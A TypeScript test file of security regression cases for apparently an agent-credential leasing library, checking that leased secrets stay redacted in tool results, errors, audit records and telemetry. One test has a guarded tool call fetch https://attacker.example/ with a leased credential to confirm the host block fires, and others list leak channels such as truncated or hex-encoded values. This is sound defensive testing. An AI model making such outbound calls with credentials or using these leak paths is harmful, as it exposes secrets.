/**
 * Known leaks found by the security suites, each as a test that states the invariant. FIXED-n entries were found
 * by these suites and fixed in the core while they were written; they stay as regression tests. They are expected to fail
 * today (`it.fails`), so `pnpm test` stays a regression gate; when a fix lands the test passes, `it.fails` turns
 * red, and the entry moves into the main suites. Run `SECURITY_STRICT=1 npx vitest run test/security-known-gaps`
 * to see them fail as plain tests.
 */
import { spawn } from 'node:child_process';
import { join } from 'node:path';
import * as core from '@agent-lease/core';
import { createGuard, currentLease, localBroker, memoryAudit } from '@agent-lease/core';
import { createLeakScanner } from '@agent-lease/testing';
import {
  BasicTracerProvider,
  InMemorySpanExporter,
  SimpleSpanProcessor,
} from '@opentelemetry/sdk-trace-base';
import { afterAll, describe, expect, it } from 'vitest';
import { makeValue, SHAPE_NAMES, type EncodingName } from './support/case-values.js';
import { ADAPTERS, createLeakEnv, type ChannelName, type LeakEnv } from './support/leak-harness.js';

const knownGap = process.env.SECURITY_STRICT === '1' ? it : it.fails;

const envs: LeakEnv[] = ADAPTERS.map((a) => createLeakEnv(a));
afterAll(async () => {
  await Promise.all(envs.map((e) => e.close()));
});

/** Runs `n` generated cases of one channel x encoding on both adapters; returns the distinct findings. */
async function findings(channel: ChannelName, encoding: EncodingName, n = 60): Promise<string[]> {
  const out = new Set<string>();
  for (let i = 0; i < n; i++) {
    const env = envs[i % envs.length]!;
    const { leaks } = await env.run({
      adapter: env.adapter,
      channel,
      encoding,
      shape: SHAPE_NAMES[i % SHAPE_NAMES.length]!,
      seed: i,
    });
    for (const l of leaks) out.add(`${env.adapter}:${l.seen}:${l.form}`);
  }
  return [...out].sort();
}

describe('known gaps (expected to fail until fixed)', () => {
  knownGap(
    'GAP-1 the last 12+ characters of a leased value (the second half of a split write) are redacted',
    async () => {
      // e.g. a tool logs a value in two halves, or a field keeps only the end of a header
      expect(await findings('tool-result', 'truncated-tail')).toEqual([]);
    },
  );

  it('FIXED-2 a cut-off head followed by more text (an error stack repeats the message) is redacted', async () => {
    // Errors (redactDeep) and exception events and log records (@agent-lease/otel) give the stack the message's
    // redaction for its copy of the message.
    expect(await findings('tool-error', 'truncated-head')).toEqual([]);
    expect(await findings('span-events', 'truncated-head')).toEqual([]);
  });

  it('FIXED-3 a value the model writes into tool arguments never reaches audit records (scopes, reason)', async () => {
    // Scopes are built from model input (`data:read:${input.q}`); audit events carry scopes and the denial
    // reason verbatim, and the auditor does not redact.
    expect(await findings('tool-input', 'hex')).toEqual([]);
  });

  it('FIXED-4 a LeaseDeniedError thrown to the app does not carry a leased value in its message', async () => {
    const value = makeValue('alnum', 7);
    const guard = createGuard({
      agent: { id: 'gap-4' },
      broker: localBroker({ credentials: { svc: { value } } }),
      grants: { svc: { scopes: ['data:read:*'], maxTtl: '1m' } },
      audit: { sink: memoryAudit() },
    });
    const needs = { credential: 'svc', scopes: (i: { q: string }) => [`admin:${i.q}`] };
    await guard.withLease(
      { tool: 't', needs: { credential: 'svc', scopes: ['data:read:x'] } },
      () => 'registers the value',
    );
    let error: unknown;
    try {
      await guard.withLease({ tool: 't', needs, input: { q: value } }, () => 1);
    } catch (e) {
      error = e;
    }
    await guard.close();
    expect(core.LeaseDeniedError.isInstance(error)).toBe(true);
    const scanner = createLeakScanner({ svc: value });
    expect(scanner.scan((error as Error).message, 'error.message')).toEqual([]);
  });

  it('FIXED-5 toolCallId (model/framework supplied) is redacted in audit records', async () => {
    const value = makeValue('github-pat', 3);
    const audit = memoryAudit();
    const guard = createGuard({
      agent: { id: 'gap-5' },
      broker: localBroker({ credentials: { svc: { value } } }),
      grants: { svc: { scopes: ['*'], maxTtl: '1m' } },
      audit: { sink: audit },
    });
    const needs = { credential: 'svc', scopes: ['read'] };
    await guard.withLease({ tool: 't', needs }, () => 'registers the value');
    await guard.withLease({ tool: 't', needs, toolCallId: `call_${value}` }, () => 1);
    await guard.close();
    expect(createLeakScanner({ svc: value }).scanValue(audit.events(), 'audit')).toEqual([]);
  });

  it('FIXED-6 builtinRules is exported from @agent-lease/core (the ReDoS suite needs every rule)', () => {
    expect(Object.keys(core)).toContain('builtinRules');
  });

  it('FIXED-7 the host-blocked span event is recorded without a global context manager', async () => {
    // With a tracerProvider in the config and no registered context manager there is no active span: the guard
    // records the event on the call's own span.
    const spans = new InMemorySpanExporter();
    const guard = createGuard({
      agent: { id: 'gap-7' },
      broker: localBroker({ credentials: { svc: { value: makeValue('alnum', 9) } } }),
      grants: { svc: { scopes: ['*'], maxTtl: '1m', hosts: ['api.example.com'] } },
      telemetry: {
        tracerProvider: new BasicTracerProvider({ spanProcessors: [new SimpleSpanProcessor(spans)] }),
      },
    });
    await guard
      .withLease({ tool: 't', needs: { credential: 'svc', scopes: ['read'] } }, () =>
        currentLease('svc').fetch('https://attacker.example/'),
      )
      .catch(() => undefined);
    await guard.close();
    const names = spans.getFinishedSpans().flatMap((s) => s.events.map((e) => e.name));
    expect(names).toContain('agent_lease.host.blocked');
  });

  it('FIXED-9a unregistering leased values in the order calls end never hangs the redactor', async () => {
    // A sliding window of 300 live values, removed in a shuffled order (as graces end after out-of-order calls):
    // a rehash during removal used to relink the removed id, and its reuse closed a cycle that remove() walked
    // forever. In a child process so a hang is a failure.
    const { code, out } = await runChild(
      [join('test', 'support', 'redactor-churn.mjs'), '5000', '300', '1'],
      15_000,
    );
    expect(out).toMatch(/^done \d+/);
    expect(code).toBe(0);
  }, 30_000);

  it('FIXED-9b a guarded call leaves nothing behind on the heap (AbortSignal.any retention on Node 20)', async () => {
    const { out } = await runChild(['--expose-gc', join('test', 'support', 'signal-retention.mjs')], 30_000);
    expect(Number(/retained-bytes-per-call (\d+)/.exec(out)?.[1] ?? 'NaN')).toBeLessThan(200);
  }, 40_000);
});

function runChild(args: string[], ms: number): Promise<{ code: number | null; out: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, args, { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.on('data', (d: Buffer) => (out += d.toString()));
    child.stderr.on('data', (d: Buffer) => (out += d.toString()));
    const timer = setTimeout(() => child.kill('SIGKILL'), ms);
    child.on('close', (code) => {
      clearTimeout(timer);
      resolve({ code, out });
    });
  });
}
